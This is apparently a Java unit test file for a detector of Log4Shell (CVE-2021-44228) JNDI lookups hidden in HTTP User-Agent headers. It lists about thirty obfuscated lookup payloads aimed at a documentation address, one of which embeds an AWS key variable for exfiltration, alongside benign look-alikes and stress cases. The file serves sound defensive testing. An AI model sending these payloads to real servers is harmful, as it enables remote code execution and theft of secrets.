package io.otus.dissect.http;

import static org.assertj.core.api.Assertions.assertThat;

import io.otus.core.bytes.ByteView;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Forms in which the lookup of CVE-2021-44228 was sent, and what looks like them. */
class LoggedLookupTest {
    private static int find(String said) {
        String request = "GET /a HTTP/1.1\r\nHost: plc1\r\nUser-Agent: " + said + "\r\n\r\n";
        return LoggedLookup.find(ByteView.of(request.getBytes(StandardCharsets.UTF_8)));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "${jndi:ldap://203.0.113.5:1389/a}",
                "x ${JNDI:rmi://203.0.113.5/a} y",
                "${${lower:j}ndi:ldap://203.0.113.5/a}",
                "${${upper:j}${lower:N}di:dns://203.0.113.5}",
                "${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://203.0.113.5/a}",
                "${j${env:NOBODY:-n}di:ldap://203.0.113.5/${env:AWS_KEY}}",
                "${${lower:${lower:jn}}di:ldap://203.0.113.5/a}",
                "${j${date:'n'}di:ldap://203.0.113.5/a}",
                "%24%7Bjndi:ldap://203.0.113.5/a%7D",
                "$%7Bjndi%3Aldap://203.0.113.5/a}",
                "%2524%257bjndi:ldap://203.0.113.5/a%257d",
                "\\u0024\\u007bjndi:ldap://203.0.113.5/a\\u007D",
                "$\\u007bjn\\u0064i:ldap://203.0.113.5/a}",
                "\\\\u0024{jndi:ldap://203.0.113.5/a}",
                "\\x24\\x7bjndi:ldap://203.0.113.5/a}",
                "%u0024%u007Bjndi:ldap://203.0.113.5/a%u007D",
                "&#36;&#x7B;jndi:ldap://203.0.113.5/a&#0125;",
                "%5Cu0024%7Bjndi:ldap://203.0.113.5/a%7D",
                "%%32%34{jndi:ldap://203.0.113.5/a}",
                "%24%7bjndi:ldap://203.0.113.5/%0a%7d",
                "${jnd${upper:\u0131}:ldap://203.0.113.5/a}",
                "${jnd%24%7bupper:%c4%b1%7d:ldap://203.0.113.5/a}",
                "${${${x:-A:-j}ndi:ldap}:rmi://203.0.113.5/a}",
                "${${x:${sys:a}-j}ndi:ldap://203.0.113.5/a}",
                "${${lower:j:-x}ndi:ldap://203.0.113.5/a}",
                "${${upper:${lower:jn:-x}:-y:-z}di:ldap://203.0.113.5/a}",
                "${${lower:-j}ndi:ldap://203.0.113.5/a}",
                "${${lower:x:-y}:-jndi:ldap}${${lower::-x}jndi:ldap://203.0.113.5/a}",
                "${${x:${sys:a:--}j}ndi:ldap://203.0.113.5/a}",
                "${${x:-jndi:ldap}}",
                "${ ${jndi:ldap://203.0.113.5/a} unclosed"
            })
    void aLookupIsFoundHoweverItIsWritten(String said) {
        assertThat(find(said)).isPositive();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "${date:yyyy-MM-dd}",
                "${name} and jndi:ldap",
                "${jndi:ldap://203.0.113.5",
                "$ {jndi:ldap://203.0.113.5}",
                "${a\r\nX: jndi:b}",
                "costs $5 and 20% of {jndi:a}",
                "%24%7Bname%7D",
                "${${x:-j}ndi}",
                "${xjndi:ldap://203.0.113.5/a}",
                "${x:-jndi:ldap://203.0.113.5/a}",
                "${${env:x}jndi}:ldap",
                "${${lower:x:-j}ndi:ldap://203.0.113.5/a}",
                "${${lower:j:-x}xndi:ldap://203.0.113.5/a}",
                "${${lower::-j}ndi:ldap://203.0.113.5/a}",
                "\\u00zz{jndi:a} &#; %u12 % \\"
            })
    void otherTextIsNone(String said) {
        assertThat(find(said)).isEqualTo(-1);
    }

    @Test
    void lengthHidesNothing() {
        String much = "a".repeat(5_000);
        assertThat(find("${jndi:ldap://203.0.113.5/" + much + "}")).isPositive();
        assertThat(find("${${" + much + ":-j}ndi:ldap://203.0.113.5/a}")).isPositive();
        assertThat(find("${${lower:j:-" + much + "}ndi:ldap://203.0.113.5/a}")).isPositive();
        assertThat(find("${".repeat(100) + "${jndi:ldap://203.0.113.5/a}")).isPositive();
        assertThat(find("${ ".repeat(100) + "${jndi:ldap://203.0.113.5/a}")).isPositive();
    }

    @Test
    void depthHidesNothing() {
        for (int depth : new int[] {1, 16, 17, 18, 1_000}) {
            String letter = "${x:-".repeat(depth) + "j" + "}".repeat(depth);
            assertThat(find("${" + letter + "ndi:ldap://203.0.113.5/a}")).isPositive();
            assertThat(find("${a:" + "${b}".repeat(depth) + "}${jndi:ldap://203.0.113.5/a}"))
                    .isPositive();
        }
    }

    /** Resolving each level by itself would copy what lies within a thousand times, some ten billion characters. */
    @Test
    @Timeout(20)
    void whatIsDeepAndLongTakesNoLonger() {
        int depth = 3_000;
        String deep = "${x:-".repeat(depth) + "a:-".repeat(4_000) + "}".repeat(depth);
        for (int i = 0; i < 200; i++) {
            assertThat(find(deep)).isEqualTo(-1);
        }
        assertThat(find("${".repeat(12_000) + "}".repeat(6_000))).isEqualTo(-1);
    }
}
